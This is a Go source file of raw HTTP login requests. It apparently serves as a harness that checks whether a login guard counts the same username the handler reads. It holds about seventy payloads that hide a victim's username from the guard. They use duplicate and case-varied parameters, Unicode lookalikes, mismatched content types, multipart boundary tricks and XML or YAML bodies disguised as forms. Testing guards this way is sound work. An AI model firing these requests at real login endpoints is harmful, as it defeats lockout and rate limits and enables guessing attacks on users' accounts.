// Package attack has requests that hide the name of a user from a login guard, and random
// ones made of the same parts. It compares what a handler has read with what was counted.
package attack

import (
	"bytes"
	"fmt"
	"strings"
)

// Request writes a request as it is on the wire.
func Request(method, query, contentType string, body []byte, chunked bool) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s /login?%s HTTP/1.1\r\nHost: a\r\n", method, query)
	if contentType != "" {
		fmt.Fprintf(&b, "Content-Type: %s\r\n", contentType)
	}
	if chunked && len(body) > 0 {
		fmt.Fprintf(&b, "Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", len(body), body)
		return b.Bytes()
	}
	fmt.Fprintf(&b, "Content-Length: %d\r\n\r\n%s", len(body), body)
	return b.Bytes()
}

// The types of bodies.
const (
	Form      = "application/x-www-form-urlencoded"
	Multipart = "multipart/form-data; boundary=XX"
	JSON      = "application/json"
)

// Part is a part of a multipart form.
func Part(name, value string) string {
	return "--XX\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
}

// An Attack is a request that hides the victim's name from the guard.
type Attack struct {
	Name                             string
	Method, Query, ContentType, Body string
}

// All are the attacks.
var All = []Attack{
	{"the query before a form", "POST", "username=victim", Form, "USERNAME=decoy"},
	{"the query before a multipart form", "POST", "username=victim", Multipart, Part("username", "decoy") + "--XX--\r\n"},
	{"the query before JSON", "POST", "username=victim", JSON, `{"username":"decoy"}`},
	{"the query in capitals", "POST", "USERNAME=victim", Form, "username=decoy"},
	{"the query alone", "POST", "username=victim", "", ""},
	{"the query of a GET", "GET", "username=victim&password=guess", "", ""},
	{"the query of a HEAD", "HEAD", "username=victim", "", ""},
	{"the query of a PUT", "PUT", "user%6eame=victim", "", ""},
	{"the query of a PATCH", "PATCH", "username[]=victim", "", ""},
	{"the query of a DELETE", "DELETE", "UserName=victim", "", ""},
	{"the query of an OPTIONS", "OPTIONS", "username=victim", "", ""},
	{"the query of a GET with a body", "GET", "username=victim", Form, "username=decoy"},
	{"a semicolon in the query", "POST", "a=b;username=victim", Form, "USERNAME=decoy"},
	{"a bad escape in the query", "POST", "%zz=%&username=victim%zz", Form, "username=decoy"},
	{"10,001 parameters", "POST", strings.Repeat("a&", 10_001) + "username=victim", Form, "username=decoy"},
	{"brackets behind the name", "POST", "", Form, "username=decoy&username[]=victim"},
	{"brackets in the name", "POST", "", Form, "userna[]me=victim&USERNAME=decoy"},
	{"brackets around the name", "POST", "", Form, "[username]=victim&username=decoy"},
	{"letter case", "POST", "", Form, "username=decoy&UserName=victim"},
	{"a long s", "POST", "", Form, "username=decoy&u%C5%BFername=victim"},
	{"a form inside JSON", "POST", "", JSON, `{"a":"&username=victim&","username":"decoy"}`},
	{"a form inside a multipart form", "POST", "", Multipart, Part("a", "&username=victim&") + Part("username", "decoy") + "--XX--\r\n"},
	{"an embedded struct", "POST", "", Form, "username=decoy&form.username=victim"},
	{"an embedded struct, in brackets", "POST", "", Form, "form[username]=victim"},
	{"a multipart name in brackets", "POST", "", Multipart, Part("username", "decoy") + Part("username[]", "victim") + "--XX--"},
	{"twice", "POST", "", Form, "username=decoy&username=victim"},
	{"10,001 fields", "POST", "", Form, strings.Repeat("a&", 10_001) + "username=victim"},
	{"a bad escape", "POST", "", Form, "username=%zz%76ictim"},
	{"a semicolon", "POST", "", Form, "username=victim;"},
	{"a type that fasthttp reads", "POST", "", Form + "x", "username=victim"},
	{"another boundary for fasthttp", "POST", "", `multipart/form-data; a="; boundary=YY;"; boundary=XX`, Part("username", "decoy") + "--XX--\r\n" + strings.ReplaceAll(Part("username", "victim"), "XX", "YY") + "--YY--\r\n"},
	{"a multipart form without an end", "POST", "", Multipart, Part("username", "victim") + Part("x", "y")},
	{"a quoted-printable value with parts in it", "POST", "", Multipart, "--XX\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nx=0D=0A--XX=0D=0AContent-Disposition: form-data; name=3D\"username\"=0D=0A=0D=0Adecoy=0D=0A--XX--=0D=0A\r\n" + Part("username", "victim") + "--XX--\r\n"},
	{"JSON twice", "POST", "", JSON, `{"username":"decoy","username":"victim"}`},
	{"JSON in capitals", "POST", "", JSON, `{"username":"decoy","USERNAME":"victim"}`},
	{"JSON with a long s", "POST", "", JSON, `{"username":"decoy","u\u017fername":"victim"}`},
	{"JSON with something behind it", "POST", "", JSON, `{"username":"victim"}{"username":"decoy"}`},
	{"JSON of another type", "POST", "", "application/vnd.api+json", `{"username":"victim"}`},
	{"JSON that Fiber takes for JSON", "POST", "", "text/json", `{"username":"victim"}`},
	{"JSON with a plus", "POST", "", "text/x+json; a", `{"username":"victim"}`},
	{"JSON of no type", "POST", "", "", `{"username":"victim"}`},
	{"JSON as text", "POST", "", "text/plain", `{"username":"victim"}`},
	{"JSON that is a form", "POST", "", Form, `{"username":"victim","x":"&username=decoy&"}`},
	{"JSON that is a form, behind white space", "POST", "", Form, "\r\n\t " + `{"username":"victim","x":"&username=decoy&"}`},
	{"JSON before a multipart form", "POST", "", Multipart, `{"username":"victim"}` + "\r\n" + Part("username", "decoy") + "--XX--\r\n"},
	{"XML", "POST", "", "application/xml", "<Form><username>victim</username></Form>"},
	{"XML as text", "POST", "", "text/xml; charset=utf-8", "<Form><username>victim</username></Form>"},
	{"YAML", "POST", "", "application/x-yaml", "username: victim"},
	{"YAML, as of late", "POST", "", "application/yaml", "username: victim"},
	{"TOML", "POST", "", "application/toml", "username = 'victim'"},
	{"MessagePack", "POST", "", "application/msgpack", "\x81\xa8username\xa6victim"},
	{"XML as a form", "POST", "", Form, "<F><username>victim</username><!--&username=d1&--></F>"},
	{"XML as a form, behind the value", "POST", "", Form, "username=d1<F><username>victim</username></F>"},
	{"YAML as a form", "POST", "", Form, "username: victim\n#&username=d1"},
	{"YAML as a form, in one line", "POST", "", Form, "username: victim #&username=d1"},
	{"YAML as a form, in braces", "POST", "", Form, "--- {username: victim} #&username=d1"},
	{"TOML as a form", "POST", "", Form, "'username'='victim'\n#&username=d1"},
	{"TOML as a form, in one line", "POST", "", Form, "'username'='victim'#&username=d1"},
	{"TOML as a form, with a comment", "POST", "", Form, "username='victim'#d1"},
	{"MessagePack as a form", "POST", "", Form, "\x81\xa8username\xa6victim&username=d1"},
	{"XML before a multipart form", "POST", "", Multipart, "<F><username>victim</username></F>\r\n" + Part("username", "d1") + "--XX--\r\n"},
	{"XML in a multipart form", "POST", "", Multipart, Part("username", "d1") + Part("x", "<F><username>victim</username></F>") + "--XX--\r\n"},
	{"XML behind a multipart form", "POST", "", Multipart, Part("username", "d1") + "--XX--\r\n<F><username>victim</username></F>"},
	{"XML with other names in a multipart form", "POST", "", Multipart, Part("username", "d1") + Part("x", "<F><login>victim</login></F>") + "--XX--\r\n"},
	{"XML attributes in a multipart form", "POST", "", Multipart, Part("username", "d1") + Part("x", "<F login='victim'/>") + "--XX--\r\n"},
	{"XML that breaks off in a multipart form", "POST", "", Multipart, Part("username", "d1") + Part("x", "<F><a:login xmlns:a='b'>victim</a:login><b>") + "--XX--\r\n"},
	{"YAML between boundaries that separate documents", "POST", "", "multipart/form-data; boundary=-", strings.ReplaceAll(Part("x", "username: victim")+Part("username", "d1"), "XX", "-") + "-----\r\n"},
	{"protobuf", "POST", "", "application/x-protobuf", "\n\x06victim"},
	{"XML in JSON", "POST", "", JSON, `{"x":"<F><username>victim</username></F>","username":"d1"}`},
	{"XML with other names in JSON", "POST", "", JSON, `{"x":"<F><login>victim</login></F>","username":"d1"}`},
	{"an invisible character", "POST", "", Form, "username=vic%E2%80%8Btim"},
	{"white space around", "POST", "", Form, "username=%E2%80%A8victim%C2%85%E1%9A%80"},
}
